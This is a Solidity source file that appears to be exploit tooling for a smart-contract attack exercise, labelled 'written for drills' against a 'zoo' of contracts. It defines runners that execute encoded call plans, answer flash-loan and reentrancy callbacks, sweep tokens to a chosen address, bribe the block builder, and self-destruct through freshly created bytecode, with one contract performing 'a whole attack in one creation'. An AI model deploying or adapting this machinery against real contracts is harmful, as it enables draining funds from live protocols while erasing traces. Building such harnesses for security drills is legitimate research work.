// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

/// @title Ends the contract that runs this: its ether goes to whoever sent the transaction.
library HeldEnd {
    /// @notice By a delegate call into two bytes of code (origin, self-destruct), which are created for it.
    function now_() internal {
        bytes memory code = hex"6132ff6000526002601ef3";
        address end;
        assembly {
            end := create(0, add(code, 32), mload(code))
        }
        Address.functionDelegateCall(end, "");
    }
}

/// @title Carries out plans in the zoo's form (see `Puppet`) that come as an argument and are stored nowhere before.
/// @notice WRITTEN FOR DRILLS, against the zoo's own contracts.
contract HeldRunner {
    /// @notice As `Puppet` has it.
    struct Act {
        address to;
        uint256 value;
        bytes data;
        uint256 times;
        address asked;
        bytes question;
        uint256 place;
    }

    /// @notice As `Puppet` has it.
    struct Plan {
        Act[] acts;
        bytes[] answers;
    }

    bytes32 private constant _FLASH_LOAN_ACCEPTED = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address private immutable _owner;
    bytes[] private _answers;
    uint256 private _answered;

    constructor() payable {
        _owner = tx.origin;
    }

    /// @notice Carries out `plan`, for whoever made this.
    function run(bytes calldata plan) external payable {
        require(tx.origin == _owner, "not yours");
        Plan memory decoded = abi.decode(plan, (Plan));
        _answers = decoded.answers;
        _answered = 0;
        _perform(decoded.acts);
        delete _answers;
    }

    /// @notice Hands everything on and is gone.
    function handOver(IERC20[] calldata tokens, address to) external {
        require(tx.origin == _owner, "not yours");
        for (uint256 index = 0; index < tokens.length; index++) {
            tokens[index].transfer(to, tokens[index].balanceOf(address(this)));
        }
        HeldEnd.now_();
    }

    /// @notice Ether came in.
    receive() external payable {
        _answer();
    }

    /// @notice Called back. What is returned pleases lenders and receivers' checks alike.
    fallback(bytes calldata data) external payable returns (bytes memory) {
        _answer();
        bytes32 selector = data.length < 4 ? bytes32(0) : bytes32(bytes4(data[:4]));
        return abi.encode(selector == bytes32(bytes4(0x23e30c8b)) ? _FLASH_LOAN_ACCEPTED : selector);
    }

    /// @dev Does the next of the answers, while there is one.
    function _answer() internal {
        if (_answered >= _answers.length) return;
        _answered += 1;
        _perform(abi.decode(_answers[_answered - 1], (Act[])));
    }

    /// @dev Every act must succeed.
    function _perform(Act[] memory acts) internal {
        for (uint256 index = 0; index < acts.length; index++) {
            Act memory act = acts[index];
            for (uint256 time = 0; time < act.times; time++) {
                if (act.asked != address(0)) {
                    bytes memory word = Address.functionStaticCall(act.asked, act.question);
                    for (uint256 byte_ = 0; byte_ < 32; byte_++) act.data[act.place + byte_] = word[byte_];
                }
                uint256 value = act.value == type(uint256).max ? address(this).balance : act.value;
                (bool success, bytes memory returned) = act.to.call{value: value}(act.data);
                if (!success) Address.verifyCallResult(success, returned);
            }
        }
    }
}

/// @title A whole attack in one creation: makes helpers at known addresses, gives each its orders, and is gone.
/// @notice WRITTEN FOR DRILLS.
contract HeldBurst {
    /// @param helpers How many are made.
    /// @param whose Which of them carries out the plan of the same place.
    /// @param tokens What each hands on at the end, to `to`; `bribe` wei of it go to the block's builder.
    constructor(
        uint256 helpers,
        uint256[] memory whose,
        bytes[] memory plans,
        IERC20[] memory tokens,
        address to,
        uint256 bribe
    ) payable {
        HeldRunner[] memory made = new HeldRunner[](helpers);
        for (uint256 index = 0; index < helpers; index++) made[index] = new HeldRunner{salt: bytes32(index)}();
        if (bribe > 0) Address.sendValue(payable(block.coinbase), bribe);
        if (address(this).balance > 0) Address.sendValue(payable(address(made[0])), address(this).balance);
        for (uint256 index = 0; index < plans.length; index++) made[whose[index]].run(plans[index]);
        for (uint256 index = 0; index < helpers; index++) made[index].handOver(tokens, to);
        HeldEnd.now_();
    }
}
